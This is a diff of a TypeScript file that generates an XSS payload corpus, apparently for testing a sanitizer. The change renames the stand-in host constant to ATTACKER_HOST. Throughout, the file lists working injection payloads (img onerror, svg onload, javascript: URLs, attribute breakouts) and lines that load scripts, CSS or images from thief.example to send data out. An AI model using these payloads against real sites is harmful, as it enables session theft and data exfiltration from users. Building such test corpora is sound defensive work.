@@ -1,5 +1,5 @@
 /** Host to which payloads send stolen data. */
-export const THIEF = 'thief.example'
+export const ATTACKER_HOST = 'thief.example'
 
 /**
  * One kind of attack. ID in its payloads is replaced by a number that identifies the payload when it runs.
@@ -9,7 +9,7 @@ export const THIEF = 'thief.example'
 type Family = { name: string; payloads: string[]; unguarded: (payload: string) => string }
 
 const js = ['hit(ID)', 'hit`ID`', 'top.hit(ID)', 'alert(ID)']
-const thief = `//${THIEF}/ID`
+const attacker = `//${ATTACKER_HOST}/ID`
 const runs = ['<img src=x onerror=hit(ID)>', '<svg onload=hit(ID)>', '<script>hit(ID)</script>']
 const times = <A, B>(
   some: readonly A[],
@@ -55,9 +55,9 @@ const html = [
     ['script', 'SCRIPT', 'script/x', 'script type=module', 'script\n'],
     (code, tag) => `<${tag}>${code}</script>`,
   ),
-  `<script src=${thief}></script>`,
-  `<script src="https:${thief}" async>`,
-  `<script type=importmap>{"imports":{"a":"https:${thief}"}}</script><script type=module>import "a"</script>`,
+  `<script src=${attacker}></script>`,
+  `<script src="https:${attacker}" async>`,
+  `<script type=importmap>{"imports":{"a":"https:${attacker}"}}</script><script type=module>import "a"</script>`,
 ]
 
 const vector = [
@@ -77,10 +77,10 @@ const vector = [
     (start, code) => `<${start}${code}>`,
   ),
   ...times(js, ['svg', 'math', 'SvG', 'svg><desc'], (code, tag) => `<${tag}><script>${code}</script>`),
-  `<svg><script href=${thief} /></svg>`,
-  `<svg><image href=https:${thief}>`,
-  `<svg><use href="https:${thief}#a">`,
-  `<svg><feImage href=https:${thief}>`,
+  `<svg><script href=${attacker} /></svg>`,
+  `<svg><image href=https:${attacker}>`,
+  `<svg><use href="https:${attacker}#a">`,
+  `<svg><feImage href=https:${attacker}>`,
   '<svg><style><img src=x onerror=hit(ID)></style>',
   '<svg><title><img src=x onerror=hit(ID)></title>',
   '<svg><a href="javascript:hit(ID)"><text y=20>press</text></a>',
@@ -98,8 +98,8 @@ const aims = [
   '\u0001javascript:hit(ID)',
   'data:text/html,<script>top.hit(ID)</script>',
   'vbscript:hit(ID)',
-  thief,
-  `https:${thief}.png`,
+  attacker,
+  `https:${attacker}.png`,
 ]
 const markdown = [
   ...times(
@@ -151,7 +151,7 @@ const address = [
   plainScript.replace('j', '%6A'),
   plainScript.replace(':', '%3A'),
   'javascript://%0Ahit(ID)',
-  `javascript:${thief}/%0Ahit(ID)`,
+  `javascript:${attacker}/%0Ahit(ID)`,
   'javascript:/*/*/hit(ID)',
   'javascript:void(hit(ID))',
   "javascript:'<script>top.hit(ID)</script>'",
@@ -168,19 +168,19 @@ const address = [
   'vbscript:hit(ID)',
   'blob:https://thief.example/ID',
   'filesystem:https://thief.example/ID',
-  thief,
-  `///${THIEF}/ID`,
-  `\\\\${THIEF}/ID`,
-  `/\\${THIEF}/ID`,
-  `/\t/${THIEF}/ID`,
-  `https:${THIEF}/ID`,
-  `https:/${THIEF}/ID`,
-  `https://a@${THIEF}/ID`,
-  `https://x%40${THIEF}/ID`,
-  `https:${thief}"onfocus="hit(ID)"autofocus="`,
-  `https:${thief}'onfocus='hit(ID)`,
-  `http://${THIEF}:80/ID`,
-  `ftp:${thief}`,
+  attacker,
+  `///${ATTACKER_HOST}/ID`,
+  `\\\\${ATTACKER_HOST}/ID`,
+  `/\\${ATTACKER_HOST}/ID`,
+  `/\t/${ATTACKER_HOST}/ID`,
+  `https:${ATTACKER_HOST}/ID`,
+  `https:/${ATTACKER_HOST}/ID`,
+  `https://a@${ATTACKER_HOST}/ID`,
+  `https://x%40${ATTACKER_HOST}/ID`,
+  `https:${attacker}"onfocus="hit(ID)"autofocus="`,
+  `https:${attacker}'onfocus='hit(ID)`,
+  `http://${ATTACKER_HOST}:80/ID`,
+  `ftp:${attacker}`,
 ]
 
 const properties = [
@@ -204,12 +204,12 @@ const style = [
       '";PROP:url(URL);"',
       "red;PROP:url('URL');x:",
     ],
-    (property, form) => form.replace('PROP', property).replace('URL', `https:${thief}`),
+    (property, form) => form.replace('PROP', property).replace('URL', `https:${attacker}`),
   ),
-  `red;}@import "https:${thief}";`,
-  `<style>@import url(https:${thief});</style>`,
-  `<style>@font-face{font-family:x;src:url(https:${thief})}*{font-family:x}</style>`,
-  `red;background:image-set("https:${thief}" 1x)`,
+  `red;}@import "https:${attacker}";`,
+  `<style>@import url(https:${attacker});</style>`,
+  `<style>@font-face{font-family:x;src:url(https:${attacker})}*{font-family:x}</style>`,
+  `red;background:image-set("https:${attacker}" 1x)`,
   'red;background:expression(hit(ID))',
   'red;behavior:url(#hit(ID))',
   'red;-moz-binding:url(//thief.example/ID)',
@@ -259,7 +259,7 @@ const fetching = [
 const frame = [
   ...frames,
   ...frames.slice(0, 5).map((one) => one.replace(/^<[^=]+/, mixed)),
-  ...times(fetching, [`https:${thief}`, thief], (tag, url) => `<${tag.replace('U', url)}>`),
+  ...times(fetching, [`https:${attacker}`, attacker], (tag, url) => `<${tag.replace('U', url)}>`),
 ]
 
 const around = [
